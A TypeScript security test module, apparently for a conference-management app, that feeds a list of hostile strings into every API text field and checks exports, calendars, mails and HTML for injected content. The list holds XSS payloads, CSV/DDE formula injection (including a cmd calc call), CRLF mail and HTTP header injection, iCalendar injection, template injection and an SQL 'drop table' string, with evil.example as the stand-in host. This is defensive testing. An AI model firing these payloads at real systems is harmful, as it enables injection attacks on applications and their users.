import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import ICAL from 'ical.js'
import { api } from '../../contract/api.ts'
import type { Endpoint } from '../../contract/core/endpoint.ts'
import { CalendarAddress, getCalendar, getCalendarAddress } from '../../contract/events/calendar.ts'
import { createEvent, createSession } from '../../contract/events/events.ts'
import { getProgrammeChanges, publishProgramme } from '../../contract/events/publishing.ts'
import { getProgramme } from '../../contract/events/programme.ts'
import { addressOf } from '../support/call.ts'
import { eventFields, sessionFields } from '../support/events.ts'
import { readMail } from '../support/mailbox.ts'
import { sampleFields, sampleOf } from '../support/samples.ts'
import { rowsOfXlsx } from '../support/sheets.ts'
import { activeIn } from './activeContent.ts'
import { agentFor, send, type Answer } from './http.ts'
import type { Ground, Identity } from './identities.ts'
import { readable } from './readable.ts'
import type { Tally } from './tally.ts'
import { about, kindsOf, statusFault } from './walk.ts'

// Hostile texts go in through every field, and come out in every form: what is shown as HTML must not run, a sheet must
// not calculate, a mail must have the headers that we wrote, and a calendar the properties.

/** The word of every hostile text. */
const word = 'zqhurt'

export const hostileTexts: readonly string[] = [
  `<script>${word}()</script>`,
  `"><img src=x onerror=${word}()>`,
  `<a href="javascript:${word}()">${word}</a>`,
  `<svg/onload=${word}()><math href="javascript:${word}()">`,
  `</title></textarea></style></script><script>${word}()</script>`,
  `<iframe srcdoc="<script>${word}()</script>"></iframe><form action=https://evil.example><input name=${word}></form>`,
  `=HYPERLINK("https://evil.example/?${word}","x")`,
  `+${word}+cmd|' /C calc'!A0`,
  `@SUM(${word})`,
  `-2+3+${word}`,
  `\t=${word}`,
  `${word}\r\nBcc: ${word}@evil.example\r\n\r\n${word}`,
  `${word}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:${word}`,
  `${word};ATTENDEE=mailto:${word}@evil.example,${'é'.repeat(120)}\\n${word}`,
  `%0d%0aSet-Cookie:%20${word}=1`,
  `{{${word}}} \${${word}} <%= ${word} %>`,
  `\u202e${word}\u2066`,
  `${word}'; drop table papers; --`,
]

type Fields = Record<string, unknown>

/** Fields that name a row or a choice, and no text. */
const isText = (name: string, value: unknown) =>
  typeof value === 'string' && !/Id$|Ids$|^Email|Email$|^Status$|URL$|Slug/.test(name)

/** The bodies of a call with a hostile text in all of its text fields, or in one of them after the other. */
export function hostileBodies(sample: unknown, text: string): Fields[] {
  if (typeof sample !== 'object' || sample === null || Array.isArray(sample)) return []
  const fields = sample as Fields
  const names = Object.keys(fields).filter((name) => isText(name, fields[name]))
  const all = Object.fromEntries(names.map((name) => [name, text]))
  return names.length === 0
    ? []
    : [{ ...fields, ...all }, ...names.map((name) => ({ ...fields, [name]: text }))]
}

const callerOf = ({ callers }: Endpoint): Identity => {
  if (callers === 'anyone') return 'visitor'
  if (callers === 'signedIn' || callers.includes('PaperPresenter')) return 'presenter'
  return callers.includes('Admin') ? 'organiser' : 'assignedAuditor'
}

/** A formula: a cell that a spreadsheet would run. An apostrophe before it makes it a text. */
const isFormula = (cell: unknown) =>
  typeof cell === 'string' &&
  /^[=+\-@\t\r\uFF0B\uFF0D\uFF1D\uFF20]/.test(cell) &&
  cell.toLowerCase().includes(word)

/** What is wrong with a file that somebody opens. */
async function faultOfFile(answer: Answer): Promise<string | undefined> {
  const type = String(answer.headers['content-type'] ?? '')
  if (type.includes('csv')) {
    const cells = parse(answer.body, { bom: true, relax_column_count: true }).flat()
    const formula = cells.find(isFormula)
    return formula === undefined ? undefined : `a formula in CSV: ${formula.slice(0, 80)}`
  }
  if (type.includes('spreadsheetml')) {
    await rowsOfXlsx(answer.body)
    return /<f[ >]/.test(await readable(answer)) ? 'a formula in XLSX' : undefined
  }
  if (type.includes('pdf')) {
    await readable(answer)
    return /\/(JavaScript|JS|Launch|SubmitForm)\b/.exec(answer.body.toString('latin1'))?.[0]
  }
  return undefined
}

/** What is wrong with a calendar: lines that are too long, or properties and events that nobody wrote. */
export function faultOfCalendar(text: string, sessions: number): string | undefined {
  const long = text.split('\r\n').find((line) => Buffer.byteLength(line) > 75)
  if (long !== undefined) return `a line of ${Buffer.byteLength(long)} bytes`
  if (/(?<!\r)\n|\r(?!\n)/.test(text)) return 'a line that ends otherwise'
  const calendar = new ICAL.Component(ICAL.parse(text) as unknown[])
  const events = calendar.getAllSubcomponents('vevent')
  const names = new Set(events.flatMap((event) => event.getAllProperties().map(({ name }) => name)))
  if (events.length !== sessions) return `${events.length} events for ${sessions} sessions`
  const odd = [...names].filter((name) => /attendee|bcc|attach|organizer/.test(name))
  return odd.length > 0 ? `the properties ${odd.join(', ')}` : undefined
}

/** What is wrong with the mails that have been sent. */
export async function faultsOfMails(folder: string): Promise<string[]> {
  const faults: string[] = []
  for (const name of readdirSync(folder)) {
    const mail = await readMail(readFileSync(join(folder, name)))
    const headers = mail.headers.filter(
      ({ key, value }) => /^(bcc|cc|set-cookie)$/.test(key) || value.includes('\n'),
    )
    if (headers.length > 0 || mail.to.length !== 1) faults.push(`headers of ${mail.subject.slice(0, 60)}`)
    const active = activeIn(bodyOf(mail.html))
    if (active.length > 0) faults.push(`${mail.subject.slice(0, 60)} has ${active.join(', ')}`)
  }
  return faults
}

const bodyOf = (html: string) => /<body[^>]*>([\s\S]*)<\/body>/i.exec(html)?.[1] ?? html

/** How many sessions a programme has. */
const sessionsIn = (programme: unknown): number =>
  JSON.stringify(programme).split('"Participants":').length - 1

/** Publishes a programme with a session of each text. */
async function publish(
  texts: readonly string[],
  call: (endpoint: Endpoint, params: Record<string, string>, body?: unknown) => Promise<Answer>,
): Promise<void> {
  const event = eventFields({ Title: texts[0] ?? '', Description: texts.at(-1) ?? '', Venue: texts[1] ?? '' })
  const made = JSON.parse((await call(createEvent, {}, event)).body.toString()) as { Id: string | null }
  for (const text of texts) {
    const session = sessionFields({ Title: text, Description: text, Room: text })
    await call(createSession, { id: made.Id ?? '' }, session)
  }
  const { Result } = JSON.parse((await call(getProgrammeChanges, {})).body.toString()) as {
    Result: { Seen: unknown }
  }
  await call(publishProgramme, {}, { Seen: Result.Seen, Tell: false })
}

/** Fields that the app shows as HTML. */
const richFields = /^(Html|Body|GuideLineDescription|ImportantDescription)$/

/** Texts of rich fields anywhere in an answer. */
function richIn(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(richIn)
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([name, one]) =>
    typeof one === 'string' && richFields.test(name) ? [one] : richIn(one),
  )
}

/** Sends hostile texts in, and looks at everything that comes out. */
export async function tryTexts(
  ground: Ground,
  tally: Tally,
  texts: readonly string[] = hostileTexts,
): Promise<number> {
  const agent = agentFor(4)
  let planted = 0
  const call = async (identity: Identity, endpoint: Endpoint, path: string, body?: unknown) => {
    const token = ground.Tokens[identity]
    const answer = await send(agent, ground.Url, {
      method: endpoint.method,
      path,
      headers: {
        ...(token === '' ? {} : { authorization: `Bearer ${token}` }),
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    })
    tally.count(answer)
    const fault = statusFault(endpoint, answer)
    if (fault) tally.found(0, `${identity}: ${endpoint.method} ${path.slice(0, 200)} answered ${fault}`)
    return answer
  }
  const rowsOf = (identity: Identity) => ground.Owners[identity === 'organiser' ? 'spare' : 'presenter'] ?? {}

  // The conference's own name and the like come last: they are in every mail and sheet.
  for (const text of texts)
    for (const endpoint of [...api.values()].filter(({ method, body }) => method !== 'GET' && body)) {
      if (endpoint.path.startsWith('/Account') || endpoint.path === '/Archive') continue
      const identity = callerOf(endpoint)
      const rows = rowsOf(identity)
      const params = about(sampleFields(endpoint.params), rows)
      const id =
        kindsOf(endpoint).flatMap((kind) => rows[kind] ?? [])[0] ?? ground.Owners['organiser']?.Page?.[0]
      const path = addressOf(endpoint, { ...params, ...('id' in params && id ? { id } : {}) })
      const sample = endpoint.body ? sampleOf(endpoint.body) : undefined
      for (const body of hostileBodies(sample, text)) {
        const { status } = await call(identity, endpoint, path, about(body, rows))
        if (status < 300) planted += 1
      }
    }

  await publish(texts, (endpoint, params, body) =>
    call('organiser', endpoint, addressOf(endpoint, params), body),
  )
  const own = await call('organiser', getCalendarAddress, '/api/Event/calendar')
  const feed = CalendarAddress.parse((JSON.parse(own.body.toString()) as { Result: unknown }).Result)
  const { pathname, search } = new URL(feed.All)
  const calendar = (await call('visitor', getCalendar, `${pathname}${search}`)).body.toString()
  const published = JSON.parse(
    (await call('organiser', getProgramme, '/api/Event')).body.toString(),
  ) as unknown
  const fault = faultOfCalendar(calendar, sessionsIn(published))
  if (fault) tally.leaked(0, `The calendar has ${fault}`)

  for (const endpoint of [...api.values()].filter(({ method }) => method === 'GET')) {
    const identity =
      endpoint.callers === 'anyone' || endpoint.callers === 'signedIn' ? 'organiser' : callerOf(endpoint)
    const query = sampleFields(endpoint.query)
    const params = about(sampleFields(endpoint.params), rowsOf(identity))
    const formats =
      endpoint.query && 'shape' in endpoint.query && 'format' in (endpoint.query.shape as object)
        ? ['xlsx', 'csv']
        : ['']
    for (const format of formats) {
      // Without a filter, so that all rows are in it.
      const asked = format === '' ? query : { format }
      const path = addressOf(endpoint, params as Record<string, string>, asked)
      const answer = await call(identity, endpoint, path)
      if (answer.status !== 200) continue
      const wrong = await faultOfFile(answer)
      if (wrong) tally.leaked(0, `${endpoint.path} has ${wrong}`)
      const disposition = String(answer.headers['content-disposition'] ?? '')
      if (answer.headers['set-cookie'] !== undefined || /[\r\n]/.test(disposition))
        tally.leaked(0, `${endpoint.path} sends a header that nobody wrote`)
      if (!/^application\/json(;|$)/.test(String(answer.headers['content-type']))) continue
      for (const html of richIn(JSON.parse(answer.body.toString())).filter((one) => one.includes('<'))) {
        const active = activeIn(html)
        if (active.length > 0) tally.leaked(0, `${endpoint.path} shows ${active.join(', ')}`)
      }
    }
  }
  agent.destroy()
  return planted
}
